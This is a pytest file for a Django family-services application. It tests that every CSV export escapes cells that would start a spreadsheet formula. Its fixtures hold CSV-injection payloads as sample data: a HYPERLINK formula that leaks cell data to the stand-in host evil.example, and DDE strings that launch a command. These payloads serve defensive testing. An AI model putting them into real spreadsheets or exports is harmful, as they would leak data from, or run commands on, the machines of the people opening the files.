"""No CSV the application sends can run in a spreadsheet (issue 11 #8, CSV injection): every
CSV is written by thinkfamily/core/csv_export.py, which sends a cell that would start a
formula as text; and every CSV export reachable from a child's record, found by following
the links a practitioner sees, is fed formula-looking values and checked cell by cell."""

import ast
import csv
import datetime
import io
import re
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from tests.cast import organisation, practitioner, put_on_caseload
from thinkfamily.chronology import types
from thinkfamily.chronology.services import record_event
from thinkfamily.core.audit import Auditor
from thinkfamily.core.csv_export import FORMULA_STARTS, safe_cell
from thinkfamily.organisations.models import Organisation, Practitioner, Service

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "thinkfamily"
WRITER = PACKAGE / "core" / "csv_export.py"
FORMULA_LIKE = re.compile(r"^[ \t\r\n]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


def runs_in_a_spreadsheet(cell: str) -> bool:
    return bool(FORMULA_LIKE.search(cell))


@given(st.one_of(st.text(), st.sampled_from(FORMULA_STARTS).flatmap(lambda c: st.text().map(lambda t: c + t))))
def test_a_cell_that_would_start_a_formula_is_sent_as_text_and_nothing_else_changes(value):
    cell = safe_cell(value)
    assert not runs_in_a_spreadsheet(cell)
    assert cell in (value, "'" + value)
    assert (cell == value) == (not runs_in_a_spreadsheet(value))


def _modules_writing_csv():
    for path in sorted(PACKAGE.rglob("*.py")):
        source = path.read_text()
        tree = ast.parse(source)
        # Writing, not reading (the area import reads CSV files): csv.writer or csv.DictWriter,
        # by attribute or imported by name.
        writes_csv = any(
            isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name) and node.value.id == "csv"
            or isinstance(node, ast.ImportFrom) and node.module == "csv"
            and any(alias.name in {"writer", "DictWriter"} for alias in node.names)
            for node in ast.walk(tree)
        )
        if writes_csv or "text/csv" in source:
            yield path


def test_every_csv_the_application_sends_is_written_by_the_one_safe_writer():
    writers = list(_modules_writing_csv())
    assert WRITER in writers
    others = [str(path.relative_to(ROOT)) for path in writers if path != WRITER]
    assert others == [], "write CSV with thinkfamily.core.csv_export.csv_response, which sends formulas as text"


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def formula_laden(family):
    """Liam's social worker, whose organisation, team, name and username look like formulas,
    a chronology entry and an old audited read (from before request ids were checked) that
    do too."""
    council = organisation("=cmd", FORMULA, Organisation.Kind.LOCAL_AUTHORITY)
    worker = practitioner("@sw", Practitioner.Role.SOCIAL_WORKER, council, Service.Kind.CHILDRENS_SOCIAL_CARE,
                          service_name="+Social care", service_phone="", team="-Assessment team", first_name="=Sam",
                          last_name="+Worker")
    liam = family["liam"]
    put_on_caseload(worker, liam)
    occurred = timezone.make_aware(datetime.datetime(2025, 3, 1, 12, 0))
    record_event(liam, types.HOUSEHOLD_MOVE, "=2+5+cmd|' /C calc'!A0", occurred_at=occurred, author=worker)
    Auditor(actor=worker, request_id="@SUM(1+1)*cmd|' /C calc'!A0", basis="-1+1").read(liam)
    return worker, liam


def _csv_exports_found_from(client, person, limit: int = 60):
    """Follow every link about ``person`` from their record (two steps, one page of each kind)
    and return the CSV responses found, by URL."""
    found, seen, queue = {}, set(), [(f"/people/{person.pk}/", 0)]
    while queue and len(seen) < limit:
        url, depth = queue.pop(0)
        parts = urlsplit(url)
        kind = (re.sub(r"/\d+", "/<id>", parts.path), tuple(sorted(parts.query.split("&"))))
        if parts.netloc or str(person.pk) not in parts.path:
            continue
        if kind in seen:
            continue
        seen.add(kind)
        response = client.get(url)
        if response["Content-Type"].startswith("text/csv"):
            found[url] = response.content.decode()
        elif response["Content-Type"].startswith("text/html") and depth < 2:
            hrefs = re.findall(r'href="([^"#]+)"', response.content.decode())
            queue += [(urljoin(url, href.replace("&amp;", "&")), depth + 1) for href in hrefs]
    return found


@pytest.mark.req("R10.2")
def test_every_csv_export_reachable_from_the_record_sends_formulas_as_text(client, formula_laden):
    worker, liam = formula_laden
    client.force_login(worker)
    exports = _csv_exports_found_from(client, liam)
    assert {urlsplit(url).path for url in exports} >= {
        f"/people/{liam.pk}/chronology/export.csv",
        f"/people/{liam.pk}/access-history/",
    }
    for url, text in exports.items():
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if runs_in_a_spreadsheet(cell)], url
        assert any(cell.startswith(("'=", "'@", "'+", "'-")) for cell in cells), f"{url} had no formula to neutralise"
    history = list(csv.reader(io.StringIO(next(t for u, t in exports.items() if "access-history" in u))))
    read = next(row for row in history if len(row) == 8 and row[7].startswith("'@SUM"))
    # By name (never the sign-in name "@sw"), role and action in words, as the page has them
    assert read[1:6] == ["'=Sam +Worker", "Social worker", "'-Assessment team", "'" + FORMULA, "Opened the record"]
    assert read[6] == "'-1+1"
